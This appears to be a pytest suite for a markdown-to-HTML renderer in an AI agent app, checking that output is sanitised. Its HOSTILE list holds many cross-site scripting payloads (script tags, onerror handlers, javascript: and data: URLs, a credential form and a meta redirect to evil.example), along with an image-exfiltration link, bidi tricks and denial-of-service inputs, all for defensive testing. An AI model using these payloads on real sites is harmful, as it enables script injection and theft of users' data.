"""What a model writes becomes HTML; what it was told to write by others does not."""

import re
import time

import pytest

from agent import markdown


def html(text: str) -> str:
    return str(markdown.render(text))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("**bold** and *slant*", "<strong>bold</strong> and <em>slant</em>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("3. three\n4. four", '<ol start="3">'),
        ("`code`", "<code>code</code>"),
        ("```python\nx < 1\n```", '<pre tabindex="0"><code>x &lt; 1\n</code></pre>'),
        ("~~gone~~", "<s>gone</s>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("one\ntwo", "one<br>\ntwo"),
        ("a < b & c", "a &lt; b &amp; c"),
        ("line\n\n---\n\nline", "<hr>"),
    ],
)
def test_markdown_becomes_html(text: str, expected: str) -> None:
    assert expected in html(text)


def test_headings_stand_below_those_of_the_page() -> None:
    assert "<h3>One</h3>" in html("# One")
    assert "<h4>Two</h4>" in html("## Two")
    assert "<h6>Six</h6>" in html("###### Six")


def test_a_table_can_be_scrolled_by_keys_and_is_not_styled() -> None:
    drawn = html("| a | b |\n|---|--:|\n| 1 | 2 |")
    box = '<div class="grid-box" tabindex="0" role="region" aria-label="Table"><table>'
    assert box in drawn.replace("\n", "")
    assert "<td>2</td>" in drawn
    assert "style" not in drawn


@pytest.mark.parametrize(
    "address", ["https://example.com/a?b=1&c=2", "http://example.com", "mailto:a@b.co"]
)
def test_a_link_leads_out_in_a_tab_of_its_own(address: str) -> None:
    drawn = html(f"[there]({address})")
    assert f'href="{address.replace("&", "&amp;")}"' in drawn
    assert 'target="_blank"' in drawn
    assert 'rel="noopener noreferrer nofollow"' in drawn
    assert f"{address.replace('&', '&amp;')}</a>" in html(f"<{address}>")


def test_a_picture_is_a_link_and_is_not_fetched() -> None:
    drawn = html("![a *cat*](https://evil.example/p.png?secret=1)")
    assert "<img" not in drawn
    assert 'href="https://evil.example/p.png?secret=1"' in drawn
    assert "Picture: a cat (evil.example)</a>" in drawn


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.example></object><embed src=x>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<p style='position:fixed'>x</p>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div hx-get=/connectors hx-trigger=load data-copy=#x id=thread>x</div>",
    '<hx-partial hx-target="body">gone</hx-partial>',
    '<template hx type="partial" hx-target="body">gone</template>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](/accounts/logout/)",
    "[x](//evil.example)",
    "[x](#thread)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![x](data:image/png;base64,AAAA)",
    '[x](https://example.com "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://example.com/"onmouseover="alert(1))',
    "```<img src=x onerror=alert(1)>\nx\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "</div></article></main><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TAG = re.compile(r"</?([a-z0-9-]+)((?:\s[^<>]*)?)>")
KNOWN = set(
    "a p br strong em s ul ol li code pre blockquote hr h3 h4 h5 h6 div table thead "
    "tbody tr th td".split()
)
ATTRIBUTE = re.compile(r'\s([a-z-]+)="([^"]*)"')
ALLOWED = {"href", "title", "rel", "target", "start", "class", "tabindex", "role"}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "- a\n- {}", "> {}", "**{}**"])
def test_nothing_hostile_becomes_markup(text: str, around: str) -> None:
    drawn = html(around.replace("{}", text))
    assert re.sub(TAG, "", drawn).count("<") == 0
    for name, inside in TAG.findall(drawn):
        assert name in KNOWN
        for attribute, value in ATTRIBUTE.findall(inside):
            assert attribute in ALLOWED | {"aria-label"}
            if attribute == "href":
                assert value.startswith(("https://example.com", "https://evil"))
        assert not ATTRIBUTE.sub("", inside).strip()


def test_text_cannot_be_reordered_or_hidden() -> None:
    drawn = html("safe\u202egnp.exe\u2066 x\u2069 \U000e0041\U000e0042end\x00\x07")
    assert "safegnp.exe x end" in drawn
    # What a language needs stays.
    assert "می\u200cخواهم 👨\u200d👩" in html("می\u200cخواهم 👨\u200d👩")


@pytest.mark.parametrize(
    "text",
    [
        "> " * 5_000 + "deep",
        "- " * 5_000 + "deep",
        "[" * 20_000,
        "![" * 10_000 + "](x)" * 10_000,
        "*a " * 20_000,
        "**_" * 10_000,
        "`" * 30_000 + "x",
        "<" * 30_000,
        "\n".join(" " * depth + "- x" for depth in range(1_000)),
        "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "|b" * 5_000,
        "[x]: y\n" * 5_000,
        "&" * 50_000,
    ],
)
def test_what_is_nested_or_repeated_without_end_takes_no_time(text: str) -> None:
    began = time.monotonic()
    html(text)
    assert time.monotonic() - began < 5


def test_what_is_very_long_stays_text() -> None:
    drawn = html("**x** <b>\n" * 20_000)
    assert drawn.startswith('<p class="wrap">**x** &lt;b&gt;\n')
    assert "<strong>" not in drawn


def test_nothing_is_nothing() -> None:
    assert html("") == ""
